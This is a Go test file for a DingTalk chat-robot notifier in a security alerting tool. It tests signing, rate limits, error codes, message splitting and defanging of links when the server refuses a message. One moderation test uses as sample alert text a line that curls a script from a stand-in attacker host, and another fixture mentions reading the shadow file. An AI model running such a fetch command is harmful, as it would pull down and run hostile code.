package dingtalk

import (
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tocsin-security/tocsin/notifiers/notifiertest"
	"github.com/tocsin-security/tocsin/notifiers/robottest"
	"github.com/tocsin-security/tocsin/pipeline"
)

const (
	token  = "566cc69da782ec33e42541b09b08551f09fbe864eb8008112e994b43887"
	secret = "SECtest"
)

func newRobot(t *testing.T, base string, change func(*Config)) *Robot {
	t.Helper()
	cfg := DefaultConfig()
	cfg.URL = pipeline.Secret(base + "/robot/send?access_token=" + token)
	cfg.Secret = secret
	if change != nil {
		change(&cfg)
	}
	r, err := New(cfg, "oncall", slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func serve(t *testing.T, h http.Handler) string {
	t.Helper()
	s := httptest.NewServer(h)
	t.Cleanup(s.Close)
	return s.URL
}

func TestContract(t *testing.T) {
	notifiertest.RunHTTP(t, notifiertest.HTTP{
		New: func(t *testing.T, base string) pipeline.Notifier {
			r := newRobot(t, base, nil)
			r.now = func() time.Time { return time.UnixMilli(1700000000000) }
			return r
		},
		Secrets: []string{token, secret, "aZLLrriXgn05YbwaGR7knYsLeJADjr9NwLaNNKpxh4g"},
		Success: `{"errcode":0,"errmsg":"ok"}`,
		Robot:   true,
		Fits: func(body string) error {
			if len(body) > 20_000 {
				return fmt.Errorf("%d bytes", len(body))
			}
			return nil
		},
	})
}

// The vector is from the recipe of open.dingtalk.com, computed apart from this code.
func TestSigned(t *testing.T) {
	u, err := url.Parse("https://oapi.dingtalk.com/robot/send?access_token=T")
	if err != nil {
		t.Fatal(err)
	}
	got := signed(u, secret, time.UnixMilli(1700000000000)).String()
	want := "https://oapi.dingtalk.com/robot/send?access_token=T&sign=aZLLrriXgn05YbwaGR7knYsLeJADjr9NwLaNNKpxh4g%3D&timestamp=1700000000000"
	if got != want {
		t.Errorf("signed = %s, want %s", got, want)
	}
	if got := signed(u, "", time.UnixMilli(1700000000000)); got != u {
		t.Errorf("signed without a secret = %s, want the address as it is", got)
	}
}

func TestNotifyIsSignedByTheServersClock(t *testing.T) {
	for name, c := range map[string]struct {
		ahead time.Duration // of the server
		taken bool
		posts int // refused before
		clock string
	}{
		"same clock":                        {0, true, 0, ""},
		"three hours ahead":                 {3 * time.Hour, true, 1, ""},
		"a day behind":                      {-24 * time.Hour, true, 1, ""},
		"refused though in agreed":          {0, false, 1, "clock agrees with the server's"},
		"refused by the server's clock too": {3 * time.Hour, false, 2, "clock is 3h0m0s behind the server's"},
	} {
		t.Run(name, func(t *testing.T) {
			now := time.Date(2025, 6, 1, 3, 0, 0, 0, time.UTC)
			robotSecret := secret
			if !c.taken {
				robotSecret = "SECother"
			}
			robot := robottest.DingTalk(robottest.Options{
				Key: token, Secret: robotSecret, Now: func() time.Time { return now.Add(c.ahead) },
			})
			n := newRobot(t, serve(t, robot), nil)
			n.now = func() time.Time { return now }
			err := n.Notify(t.Context(), notifiertest.Message())
			if (err == nil) != c.taken || len(robot.Refused()) != c.posts {
				t.Errorf("Notify = %v after %d refusals, want taken %v after %d", err, len(robot.Refused()), c.taken, c.posts)
			}
			if !c.taken {
				if e := notifiertest.Failure(t, err, []string{token, secret}); e.Class != pipeline.ChannelDown || !strings.Contains(e.Error(), c.clock) {
					t.Errorf("Notify with a wrong secret = %v %v, want channel_down, and that %s", e.Class, e, c.clock)
				}
			}
		})
	}
}

func TestNotifyReservesRoomForMentionsAndKeyword(t *testing.T) {
	for name, body := range map[string]string{
		"a short text": "短", "a long text": strings.Repeat("很长的文字。", 5000), "a text of quotes": strings.Repeat(`"`, 30_000),
	} {
		t.Run(name, func(t *testing.T) {
			robot := robottest.DingTalk(robottest.Options{Key: token, Secret: secret, Keywords: []string{"安全告警", "tocsin"}})
			n := newRobot(t, serve(t, robot), func(c *Config) {
				c.Keywords = []string{"tocsin"}
				c.At = At{Mobiles: []string{"13800000000"}, UserIDs: []string{"manager42"}, All: true}
			})
			m := notifiertest.Message()
			m.Body = body
			if err := n.Notify(t.Context(), m); err != nil {
				t.Fatalf("Notify = %v", err)
			}
			posts := robot.Posts()
			if cost := n.Cost(m); cost != len(posts) {
				t.Errorf("Cost = %d, and %d requests were made", cost, len(posts))
			}
			if many := len(body) > maxBody; many != (len(posts) == 3) {
				t.Errorf("a text of %d bytes went in %d parts", len(body), len(posts))
			}
			for i, p := range posts {
				var want []string
				if i == len(posts)-1 {
					want = []string{"13800000000", "manager42", "all"}
				}
				if diff := cmp.Diff(want, p.Mentions); diff != "" {
					t.Errorf("mentions of part %d (-want +got):\n%s", i+1, diff)
				}
				if len(p.Body) > maxBody {
					t.Errorf("the body has %d bytes, want at most %d", len(p.Body), maxBody)
				}
				if len(posts) > 1 && len(p.Body) < maxBody*9/10 {
					t.Errorf("the body of part %d has %d bytes: too much was cut", i+1, len(p.Body))
				}
				for _, s := range []string{p.Title, p.Text} {
					if !strings.Contains(s, "tocsin") {
						t.Errorf("no keyword in %.100q", s)
					}
				}
			}
		})
	}
}

func TestNotifyReadsErrcode(t *testing.T) {
	type want struct {
		class pipeline.DeliveryClass
		after time.Duration
	}
	down, bad, banned := want{pipeline.ChannelDown, 0}, want{pipeline.BadMessage, 0}, want{pipeline.Retry, 10 * time.Minute}
	for answer, want := range map[string]want{
		`{"errcode":-1,"errmsg":"busy"}`: {pipeline.Retry, 0},
		`{"errcode":130101,"errmsg":"send too fast, exceed 20 times per minute","wait":5}`: banned,
		`{"errcode":410100,"errmsg":"发送速度太快而限流"}`:                                          banned,
		`{"errcode":999999,"errmsg":"Send Too Fast"}`:                                      banned,
		`{"errcode":90030,"errmsg":"webhook over limit"}`:                                  down,
		`{"errcode":300001,"errmsg":"token is not exist"}`:                                 down,
		`{"errcode":300005,"errmsg":"token is not exist"}`:                                 down,
		`{"errcode":400102,"errmsg":"stopped"}`:                                            down,
		`{"errcode":310000,"errmsg":"keywords not in content"}`:                            bad,
		`{"errcode":310000,"errmsg":"sign not match"}`:                                     down,
		`{"errcode":310000,"errmsg":"ip 1.2.3.4 not in whitelist"}`:                        down,
		`{"errcode":400105,"errmsg":"unsupported msgtype"}`:                                bad,
		`{"errcode":460101,"errmsg":"message too long"}`:                                   bad,
		`{"errcode":777,"errmsg":"?"}`:                                                     bad,
	} {
		t.Run(answer, func(t *testing.T) {
			robot := robottest.DingTalk(robottest.Options{})
			robot.Answer(200, nil, answer)
			err := newRobot(t, serve(t, robot), nil).Notify(t.Context(), notifiertest.Message())
			if e := notifiertest.Failure(t, err, []string{token, secret}); e.Class != want.class || e.RetryAfter != want.after {
				t.Errorf("answer %s = %v after %v, want %v after %v", answer, e.Class, e.RetryAfter, want.class, want.after)
			}
		})
	}
}

func TestTypes(t *testing.T) {
	links := []pipeline.Link{{Title: "认领", URL: "https://tocsin.example/ack?t=1"}, {Title: "静默", URL: "https://tocsin.example/silence?t=1"}}
	for name, c := range map[string]struct {
		msgType string
		links   []pipeline.Link
		want    string
		buttons []string
	}{
		"text":                   {"text", links, "text", nil},
		"a card":                 {"actionCard", links, "actionCard", []string{"认领 https://tocsin.example/ack?t=1", "静默 https://tocsin.example/silence?t=1"}},
		"a card that is one":     {"actionCard", links[:1], "actionCard", []string{"认领 https://tocsin.example/ack?t=1"}},
		"a card without buttons": {"actionCard", nil, "markdown", nil},
	} {
		t.Run(name, func(t *testing.T) {
			robot := robottest.DingTalk(robottest.Options{Key: token, Secret: secret, Keywords: []string{"tocsin"}})
			n := newRobot(t, serve(t, robot), func(cfg *Config) {
				cfg.MsgType, cfg.Keywords, cfg.At = c.msgType, []string{"tocsin"}, At{Mobiles: []string{"13800000000"}}
			})
			m := notifiertest.Message()
			m.Links = c.links
			if err := n.Notify(t.Context(), m); err != nil {
				t.Fatalf("Notify = %v", err)
			}
			p := robot.Posts()[0]
			if p.Type != c.want || !strings.Contains(p.Text, "读取影子文件") {
				t.Errorf("a %s of %q, want a %s", p.Type, p.Text, c.want)
			}
			if diff := cmp.Diff(c.buttons, p.Buttons); diff != "" {
				t.Errorf("buttons (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff([]string{"13800000000"}, p.Mentions); diff != "" {
				t.Errorf("mentions (-want +got):\n%s", diff)
			}
		})
	}
}

// What the moderation refuses goes out as plain text that nothing can be followed from, once.
func TestModeration(t *testing.T) {
	for again, want := range map[string]bool{"": true, `{"errcode":430102,"errmsg":"unsafe text"}`: false} {
		robot := robottest.DingTalk(robottest.Options{Key: token, Secret: secret, Keywords: []string{"tocsin"}})
		n := newRobot(t, serve(t, robot), func(c *Config) {
			c.Keywords = []string{"tocsin"}
			c.At = At{Mobiles: []string{"13800000000"}}
		})
		robot.Answer(200, nil, `{"errcode":430101,"errmsg":"unsafe link"}`)
		if again != "" {
			robot.Answer(200, nil, again)
		}
		m := notifiertest.Message()
		m.Body = "#### **Miner**  \n- curl http://evil.example.com/x.sh 203.0.113.9  \n[Silence](https://tocsin.example/s?t=1)"
		if err := n.Notify(t.Context(), m); (err == nil) != want {
			t.Fatalf("Notify = %v, want it taken: %v", err, want)
		}
		if !want {
			continue
		}
		p := robot.Posts()[0]
		if text := "Miner\n- curl hxxp://evil[.]example[.]com/x[.]sh 203[.]0[.]113[.]9\nSilence\n\n@13800000000\ntocsin"; p.Type != "text" || p.Text != text {
			t.Errorf("the %s message is %q, want %q", p.Type, p.Text, text)
		}
		if diff := cmp.Diff([]string{"13800000000"}, p.Mentions); diff != "" {
			t.Errorf("mentions (-want +got):\n%s", diff)
		}
	}
}

// Addresses are longer when nothing follows them: what was just short enough is made so again.
func TestModeratedTextFits(t *testing.T) {
	cfg := Config{Keywords: []string{"tocsin"}, At: At{Mobiles: []string{"13800000000"}}}
	body, err := encodePlain(cfg, strings.Repeat("a.b.c.d.e 长\n", 1400), true)
	if err != nil || len(body) > maxBody {
		t.Fatalf("%d bytes, %v, want %d at most", len(body), err, maxBody)
	}
	for _, want := range []string{"a[.]b", "……", "@13800000000", "tocsin"} {
		if !strings.Contains(string(body), want) {
			t.Errorf("%q is not in what was made shorter", want)
		}
	}
}

func TestBanOfTheFakeLastsTenMinutes(t *testing.T) {
	now := time.Date(2025, 6, 1, 3, 0, 0, 0, time.UTC)
	robot := robottest.DingTalk(robottest.Options{Key: token, Now: func() time.Time { return now }})
	n := newRobot(t, serve(t, robot), nil)
	for range 20 {
		if err := n.Notify(t.Context(), notifiertest.Message()); err != nil {
			t.Fatal(err)
		}
	}
	for _, wait := range []time.Duration{0, 2 * time.Minute, 7 * time.Minute} {
		now = now.Add(wait)
		if e := notifiertest.Failure(t, n.Notify(t.Context(), notifiertest.Message()), nil); e.RetryAfter != ban {
			t.Errorf("Notify while banned = %v after %v, want %v", e.Class, e.RetryAfter, ban)
		}
	}
	now = now.Add(time.Minute)
	if err := n.Notify(t.Context(), notifiertest.Message()); err != nil {
		t.Errorf("Notify after the ban = %v", err)
	}
}

func TestID(t *testing.T) {
	direct := newRobot(t, "https://oapi.dingtalk.com", nil).ID()
	proxied := newRobot(t, "http://proxy.example", func(c *Config) { c.Secret = "" }).ID()
	other := newRobot(t, "https://oapi.dingtalk.com", func(c *Config) { c.URL += "2" }).ID()
	if direct != proxied || direct == other || !strings.HasPrefix(direct, "dingtalk-") || len(direct) != len("dingtalk-")+8 {
		t.Errorf("IDs: direct %q, same robot by proxy %q, another robot %q", direct, proxied, other)
	}
}

func TestValidate(t *testing.T) {
	for name, c := range map[string]struct {
		cfg  Config
		want string
	}{
		"no address":         {Config{}, "url is missing"},
		"two secrets":        {Config{URL: "http://a", Secret: "s", SecretFile: "f"}, "only one"},
		"not an address":     {Config{URL: "SECtoken"}, "absolute http"},
		"an empty phone":     {Config{URL: "http://a", At: At{Mobiles: []string{""}}}, "empty"},
		"an empty keyword":   {Config{URL: "http://a", Keywords: []string{""}}, "empty"},
		"an address in both": {Config{URL: "http://a", URLFile: "f"}, "only one"},
	} {
		t.Run(name, func(t *testing.T) {
			if err := c.cfg.Validate(); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("Validate = %v, want an error with %q", err, c.want)
			}
		})
	}
}

func TestTooLongGoesInTwo(t *testing.T) {
	notifiertest.TooLong(t, pipeline.Person{Mobile: "13800000000"}, func(t *testing.T, maxBytes int) (pipeline.Notifier, func() []notifiertest.Taken) {
		robot := robottest.DingTalk(robottest.Options{MaxBytes: maxBytes})
		return newRobot(t, serve(t, robot), nil), func() (all []notifiertest.Taken) {
			for _, p := range robot.Posts() {
				all = append(all, notifiertest.Taken{Text: p.Text, Mentions: p.Mentions})
			}
			return all
		}
	})
}
